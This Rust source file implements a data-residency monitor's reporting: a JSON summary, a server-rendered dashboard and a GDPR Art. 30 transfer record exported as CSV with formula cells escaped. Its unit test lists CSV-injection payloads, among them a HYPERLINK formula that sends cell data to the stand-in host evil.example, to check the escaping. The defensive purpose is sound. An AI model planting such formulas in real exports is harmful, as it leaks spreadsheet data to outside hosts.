//! What the monitor reports, computed from its verified state: a summary
//! (JSON), a server-rendered dashboard (HTML with inline SVG charts, no
//! JavaScript) and the record of transfers that GDPR Art. 30(1)(e) asks a
//! controller to keep, as JSON and CSV.

use std::collections::BTreeMap;
use std::sync::Arc;

use axum::extract::{Path, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use maud::{DOCTYPE, Markup, PreEscaped, html};
use serde::Serialize;

use crate::replay::{Access, FindingKind};
use crate::state::StoredFinding;
use crate::{Error, Monitor};

/// How many denials the summary lists.
const RECENT: usize = 50;

/// One log's status.
#[derive(Clone, Debug, Serialize)]
pub struct LogStatus {
    /// The region.
    pub region: String,
    /// The log's origin.
    pub origin: String,
    /// Verified size.
    pub size: u64,
    /// Verified root (base64).
    pub root: String,
    /// When it was last verified.
    pub verified_at: String,
    /// Each configured witness, and whether it cosigned the checkpoint.
    pub witnesses: BTreeMap<String, bool>,
    /// Each configured witness checked in this process's last round: what
    /// could be checked and how (absent: not checked yet).
    pub witness_checks: BTreeMap<String, crate::WitnessCheck>,
}

/// Transfers grouped by destination, legal basis and purpose.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct TransferGroup {
    /// Destination jurisdiction.
    pub destination: String,
    /// Legal basis as named.
    pub legal_basis: String,
    /// Purpose.
    pub purpose: String,
    /// Allowed transfers.
    pub transfers: u64,
    /// Subjects covered, summed over the transfers.
    pub subjects: u64,
}

/// The summary the dashboard and `residency audit` show.
#[derive(Clone, Debug, Serialize)]
pub struct Summary {
    /// No finding of any kind.
    pub clean: bool,
    /// Per log.
    pub logs: Vec<LogStatus>,
    /// Access entries verified, by action.
    pub accesses_by_action: BTreeMap<String, u64>,
    /// Allowed transfers, grouped.
    pub transfers: Vec<TransferGroup>,
    /// Allowed transfers per time bucket and destination.
    pub transfers_over_time: Vec<(String, BTreeMap<String, u64>)>,
    /// Denied requests.
    pub denial_count: u64,
    /// The latest denials (up to 50), newest first, with their region.
    pub recent_denials: Vec<(String, Access)>,
    /// Findings, newest first.
    pub findings: Vec<StoredFinding>,
}

impl Summary {
    /// Findings of one kind.
    pub fn count(&self, kind: FindingKind) -> usize {
        self.findings
            .iter()
            .filter(|f| f.finding.kind == kind)
            .count()
    }
}

/// One line of the Art. 30 record of transfers.
#[derive(Clone, Debug, Serialize)]
pub struct Art30Transfer {
    /// When.
    pub time: String,
    /// The exporting region and its jurisdiction.
    pub region: String,
    /// Jurisdiction the data is in.
    pub from_jurisdiction: String,
    /// The third country or jurisdiction it went to.
    pub to_jurisdiction: String,
    /// The recipient (principal) and its organisation.
    pub recipient: String,
    /// Organisation.
    pub organisation: String,
    /// Purpose of the processing.
    pub purpose: String,
    /// Categories of personal data (datasets).
    pub categories: String,
    /// Fields and how each left.
    pub safeguards: String,
    /// Number of data subjects.
    pub subjects: u64,
    /// Transfer tool named.
    pub legal_basis: String,
    /// Its legal reference.
    pub legal_reference: String,
    /// The log entry that records it: `region#index`.
    pub log_entry: String,
}

impl Monitor {
    /// The summary of everything verified so far.
    pub fn summary(&self) -> Result<Summary, Error> {
        let accesses = self.state.accesses()?;
        let findings = self.state.findings()?;
        let checks = self
            .witness_checks
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .clone();
        let mut logs = Vec::new();
        for v in self.state.logs()? {
            logs.push(LogStatus {
                witness_checks: checks
                    .iter()
                    .filter(|((region, _), _)| *region == v.region)
                    .map(|((_, w), c)| (w.clone(), c.clone()))
                    .collect(),
                region: v.region,
                origin: v.origin,
                size: v.size,
                root: v.root.to_base64(),
                verified_at: v.verified_at,
                witnesses: self
                    .config
                    .witnesses
                    .iter()
                    .map(|w| (w.key.name.clone(), v.cosigners.contains(&w.key.name)))
                    .collect(),
            });
        }
        let mut by_action = BTreeMap::new();
        let mut groups: BTreeMap<(String, String, String), (u64, u64)> = BTreeMap::new();
        let mut denials: Vec<(String, Access)> = Vec::new();
        let mut denial_count = 0;
        for (region, a) in &accesses {
            *by_action.entry(a.action.clone()).or_insert(0) += 1;
            if !a.allowed {
                denial_count += 1;
                denials.push((region.clone(), a.clone()));
                if denials.len() > 2 * RECENT {
                    denials.drain(..RECENT);
                }
            } else if a.action == "transfer" {
                let g = groups
                    .entry((
                        a.destination.clone(),
                        a.legal_basis.clone().unwrap_or_else(|| "none".into()),
                        a.purpose.clone(),
                    ))
                    .or_default();
                g.0 += 1;
                g.1 += a.subject_count;
            }
        }
        let transfers_over_time = over_time(
            accesses
                .iter()
                .filter(|(_, a)| a.allowed && a.action == "transfer")
                .map(|(_, a)| (a.time.as_str(), a.destination.as_str())),
        );
        Ok(Summary {
            clean: findings.is_empty(),
            logs,
            accesses_by_action: by_action,
            transfers: groups
                .into_iter()
                .map(
                    |((destination, legal_basis, purpose), (n, s))| TransferGroup {
                        destination,
                        legal_basis,
                        purpose,
                        transfers: n,
                        subjects: s,
                    },
                )
                .collect(),
            transfers_over_time,
            denial_count,
            recent_denials: denials.into_iter().rev().take(RECENT).collect(),
            findings,
        })
    }

    /// The Art. 30(1)(e) record: every allowed transfer, from the logs.
    pub fn art30(&self) -> Result<Vec<Art30Transfer>, Error> {
        Ok(self
            .state
            .accesses()?
            .into_iter()
            .filter(|(_, a)| a.allowed && a.action == "transfer")
            .map(|(region, a)| Art30Transfer {
                time: a.time,
                log_entry: format!("{region}#{}", a.index),
                region,
                from_jurisdiction: a.origin_jurisdiction,
                to_jurisdiction: a.destination,
                recipient: a.principal,
                organisation: a.organisation,
                purpose: a.purpose,
                categories: a.datasets.join(", "),
                safeguards: a.fields.join(", "),
                subjects: a.subject_count,
                legal_basis: a.legal_basis.unwrap_or_default(),
                legal_reference: a.legal_reference.unwrap_or_default(),
            })
            .collect())
    }

    /// The Art. 30 record as CSV (RFC 4180, a header line first), safe to
    /// open in a spreadsheet: see [`art30_to_csv`].
    pub fn art30_csv(&self) -> Result<String, Error> {
        art30_to_csv(self.art30()?)
    }

    /// An entry of a verified log, with a tlog-proof receipt against the
    /// verified checkpoint.
    pub async fn entry(&self, region: &str, index: u64) -> Result<Option<(String, String)>, Error> {
        let Some(log) = self.logs.iter().find(|l| l.config.region == region) else {
            return Ok(None);
        };
        let Some(v) = self.state.verified(&log.config.key.name)? else {
            return Ok(None);
        };
        if index >= v.size {
            return Ok(None);
        }
        let cp = tlog::SignedCheckpoint::open(v.checkpoint.as_bytes(), &log.config.key, &[])
            .map_err(|e| Error::State(e.to_string()))?;
        let entry = log
            .mirror
            .entry(index, v.size)
            .await
            .map_err(|e| Error::State(e.to_string()))?;
        let receipt = log
            .mirror
            .receipt(index, &cp)
            .await
            .map_err(|e| Error::State(e.to_string()))?;
        Ok(Some((
            String::from_utf8_lossy(&entry).into_owned(),
            receipt.to_text(),
        )))
    }
}

/// Art. 30 rows as CSV (RFC 4180, a header line first). Purposes, names
/// and legal bases come from the logs, so from callers: a cell a
/// spreadsheet would take for a formula (starting with `=`, `+`, `-`, `@`,
/// a tab or a carriage return) is prefixed with `'` (OWASP's rule against
/// CSV injection) and so shown as text.
pub fn art30_to_csv(rows: Vec<Art30Transfer>) -> Result<String, Error> {
    let mut w = csv::Writer::from_writer(Vec::new());
    for t in rows {
        w.serialize(t.neutralised())
            .map_err(|e| Error::State(e.to_string()))?;
    }
    let bytes = w.into_inner().map_err(|e| Error::State(e.to_string()))?;
    String::from_utf8(bytes).map_err(|e| Error::State(e.to_string()))
}

/// A CSV cell that no spreadsheet evaluates.
fn neutralise(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

impl Art30Transfer {
    /// Every text cell neutralised.
    fn neutralised(self) -> Self {
        Art30Transfer {
            time: neutralise(self.time),
            region: neutralise(self.region),
            from_jurisdiction: neutralise(self.from_jurisdiction),
            to_jurisdiction: neutralise(self.to_jurisdiction),
            recipient: neutralise(self.recipient),
            organisation: neutralise(self.organisation),
            purpose: neutralise(self.purpose),
            categories: neutralise(self.categories),
            safeguards: neutralise(self.safeguards),
            subjects: self.subjects,
            legal_basis: neutralise(self.legal_basis),
            legal_reference: neutralise(self.legal_reference),
            log_entry: neutralise(self.log_entry),
        }
    }
}

/// Counts per time bucket and destination; the bucket (day, hour or
/// minute) is the coarsest that shows more than one bar.
fn over_time<'a>(
    items: impl Iterator<Item = (&'a str, &'a str)> + Clone,
) -> Vec<(String, BTreeMap<String, u64>)> {
    // RFC 3339: `2026-11-25T04:20:55Z`; prefixes are day, hour, minute.
    for len in [10, 13, 16] {
        let mut buckets: BTreeMap<String, BTreeMap<String, u64>> = BTreeMap::new();
        for (time, dest) in items.clone() {
            let key = time.get(..len).unwrap_or(time).to_owned();
            *buckets
                .entry(key)
                .or_default()
                .entry(dest.to_owned())
                .or_insert(0) += 1;
        }
        if buckets.len() > 1 || len == 16 {
            return buckets.into_iter().collect();
        }
    }
    Vec::new()
}

const COLOURS: [&str; 6] = [
    "#1f77b4", "#ff7f0e", "#2ca02c", "#d62728", "#9467bd", "#8c564b",
];

/// A stacked bar chart of transfers over time, by destination, as SVG.
fn chart(series: &[(String, BTreeMap<String, u64>)]) -> Markup {
    let dests: Vec<&String> = {
        let mut d: Vec<&String> = series.iter().flat_map(|(_, m)| m.keys()).collect();
        d.sort();
        d.dedup();
        d
    };
    let max = series
        .iter()
        .map(|(_, m)| m.values().sum::<u64>())
        .max()
        .unwrap_or(0)
        .max(1);
    let (w, h, pad) = (640.0_f64, 200.0_f64, 30.0_f64);
    let bar = if series.is_empty() {
        0.0
    } else {
        (w - 2.0 * pad) / series.len() as f64
    };
    html! {
        svg xmlns="http://www.w3.org/2000/svg" width=(w) height=(h + 40.0) role="img"
            aria-label="Transfers over time by destination" {
            line x1=(pad) y1=(h) x2=(w - pad) y2=(h) stroke="#888" {}
            text x="2" y="14" font-size="11" { (max) }
            text x="2" y=(h) font-size="11" { "0" }
            @for (i, (bucket, counts)) in series.iter().enumerate() {
                @let x = pad + i as f64 * bar;
                @let mut top = h;
                @for (j, d) in dests.iter().enumerate() {
                    @if let Some(&n) = counts.get(*d) {
                        @let bh = (n as f64 / max as f64) * (h - 20.0);
                        @let y = { top -= bh; top };
                        rect x=(x + 2.0) y=(y) width=((bar - 4.0).max(1.0)) height=(bh)
                            fill=(COLOURS[j % COLOURS.len()]) data-destination=(d) data-count=(n) {
                            title { (d) ": " (n) " at " (bucket) }
                        }
                    }
                }
                text x=(x + 2.0) y=(h + 14.0) font-size="10" { (bucket.get(5..).unwrap_or(bucket)) }
            }
            @for (j, d) in dests.iter().enumerate() {
                rect x=(pad + j as f64 * 90.0) y=(h + 24.0) width="10" height="10"
                    fill=(COLOURS[j % COLOURS.len()]) {}
                text x=(pad + 14.0 + j as f64 * 90.0) y=(h + 33.0) font-size="11" { (d) }
            }
        }
    }
}

/// The dashboard page.
pub fn dashboard(s: &Summary) -> Markup {
    let violations = s.count(FindingKind::Violation);
    let inconsistencies = s.count(FindingKind::Inconsistency);
    let mismatches = s.count(FindingKind::Mismatch);
    html! {
        (DOCTYPE)
        html lang="en" {
            head {
                meta charset="utf-8";
                title { "residency monitor" }
                style { (PreEscaped("body{font-family:sans-serif;margin:2em;max-width:60em}table{border-collapse:collapse;margin:1em 0}td,th{border:1px solid #ccc;padding:.3em .6em;text-align:left}.bad{color:#b00}.ok{color:#070}")) }
            }
            body {
                h1 { "residency monitor" }
                p id="verdict" class=(if s.clean { "ok" } else { "bad" }) {
                    @if s.clean { "Clean: every entry verified, every decision replayed, no violation." }
                    @else { (violations) " violations, " (inconsistencies) " inconsistencies, " (mismatches) " mismatches." }
                }
                h2 { "Regions" }
                table id="regions" {
                    tr { th { "region" } th { "log size" } th { "verified checkpoint" } th { "verified at" } th { "witnesses" } }
                    @for l in &s.logs {
                        tr data-region=(l.region) {
                            td { (l.region) }
                            td class="size" { (l.size) }
                            td { code { (l.root) } }
                            td { (l.verified_at) }
                            td {
                                @for (w, ok) in &l.witnesses {
                                    span class=(if *ok { "ok" } else { "bad" }) { (w) (if *ok { " ✓" } else { " ✗" }) } " "
                                }
                                @for (w, c) in &l.witness_checks {
                                    br;
                                    small class="witness-check" data-witness=(w) { (w) ": " (c.to_string()) }
                                }
                            }
                        }
                    }
                }
                h2 { "Transfers by destination, legal basis and purpose" }
                (chart(&s.transfers_over_time))
                table id="transfers" {
                    tr { th { "destination" } th { "legal basis" } th { "purpose" } th { "transfers" } th { "subjects" } }
                    @for t in &s.transfers {
                        tr { td { (t.destination) } td { (t.legal_basis) } td { (t.purpose) } td class="count" { (t.transfers) } td { (t.subjects) } }
                    }
                }
                p { a href="/api/art30.csv" { "Art. 30 record of transfers (CSV)" } " · " a href="/api/art30.json" { "JSON" } " · " a href="/api/summary" { "summary (JSON)" } }
                h2 { "Denials (" span id="denials" { (s.denial_count) } ")" }
                table {
                    tr { th { "region" } th { "entry" } th { "time" } th { "principal" } th { "action" } th { "why" } }
                    @for (region, a) in &s.recent_denials {
                        tr {
                            td { (region) }
                            td { a href=(format!("/api/entry/{region}/{}", a.index)) { "#" (a.index) } }
                            td { (a.time) } td { (a.principal) } td { (a.action) }
                            td { (a.reasons.join("; ")) }
                        }
                    }
                }
                h2 { "Findings (" span id="findings" { (s.findings.len()) } ")" }
                table {
                    tr { th { "region" } th { "entry" } th { "kind" } th { "what" } th { "found" } }
                    @for f in &s.findings {
                        tr class="bad" {
                            td { (f.finding.region) }
                            td {
                                @if let Some(i) = f.finding.index {
                                    a href=(format!("/api/entry/{}/{i}", f.finding.region)) { "#" (i) }
                                }
                            }
                            td { (f.finding.kind.as_str()) }
                            td { (f.finding.message) }
                            td { (f.found_at) }
                        }
                    }
                }
            }
        }
    }
}

type Shared = Arc<Monitor>;

fn failed(e: Error) -> Response {
    (StatusCode::INTERNAL_SERVER_ERROR, e.to_string()).into_response()
}

/// The monitor's HTTP interface: `/` (dashboard), `/api/summary`,
/// `/api/art30.json`, `/api/art30.csv`, `/api/entry/{region}/{index}`,
/// `/healthz`.
pub fn router(monitor: Arc<Monitor>) -> axum::Router {
    use axum::routing::get;
    axum::Router::new()
        .route("/", get(page))
        .route("/api/summary", get(summary))
        .route("/api/art30.json", get(art30_json))
        .route("/api/art30.csv", get(art30_csv))
        .route("/api/entry/{region}/{index}", get(entry))
        .route("/healthz", get(|| async { "ok\n" }))
        .with_state(monitor)
}

async fn page(State(m): State<Shared>) -> Response {
    match m.summary() {
        Ok(s) => (
            [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
            dashboard(&s).into_string(),
        )
            .into_response(),
        Err(e) => failed(e),
    }
}

async fn summary(State(m): State<Shared>) -> Response {
    match m.summary() {
        Ok(s) => axum::Json(s).into_response(),
        Err(e) => failed(e),
    }
}

async fn art30_json(State(m): State<Shared>) -> Response {
    match m.art30() {
        Ok(r) => axum::Json(r).into_response(),
        Err(e) => failed(e),
    }
}

async fn art30_csv(State(m): State<Shared>) -> Response {
    match m.art30_csv() {
        Ok(text) => ([(header::CONTENT_TYPE, "text/csv; charset=utf-8")], text).into_response(),
        Err(e) => failed(e),
    }
}

async fn entry(State(m): State<Shared>, Path((region, index)): Path<(String, u64)>) -> Response {
    match m.entry(&region, index).await {
        Ok(Some((entry, receipt))) => axum::Json(serde_json::json!({
            "region": region,
            "index": index,
            "entry": serde_json::from_str::<serde_json::Value>(&entry).unwrap_or(serde_json::Value::String(entry)),
            "receipt": receipt,
        }))
        .into_response(),
        Ok(None) => (StatusCode::NOT_FOUND, "no such verified entry\n").into_response(),
        Err(e) => failed(e),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(text: &str) -> Art30Transfer {
        let t = text.to_owned();
        Art30Transfer {
            time: t.clone(),
            region: t.clone(),
            from_jurisdiction: t.clone(),
            to_jurisdiction: t.clone(),
            recipient: t.clone(),
            organisation: t.clone(),
            purpose: t.clone(),
            categories: t.clone(),
            safeguards: t.clone(),
            subjects: 3,
            legal_basis: t.clone(),
            legal_reference: t.clone(),
            log_entry: t,
        }
    }

    #[test]
    fn art30_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ] {
            let csv = art30_to_csv(vec![row(formula)]).unwrap();
            let mut r = csv::Reader::from_reader(csv.as_bytes());
            let record = r.records().next().unwrap().unwrap();
            for (i, cell) in record.iter().enumerate() {
                if cell == "3" {
                    continue; // subjects, a number
                }
                assert_eq!(cell, format!("'{formula}"), "column {i} of {csv:?}");
            }
        }
        // Ordinary cells are left as they are.
        let csv = art30_to_csv(vec![row("reco-training")]).unwrap();
        assert!(
            csv.lines().nth(1).unwrap().starts_with("reco-training,"),
            "{csv}"
        );
        assert!(!csv.contains('\''), "{csv}");
    }
}
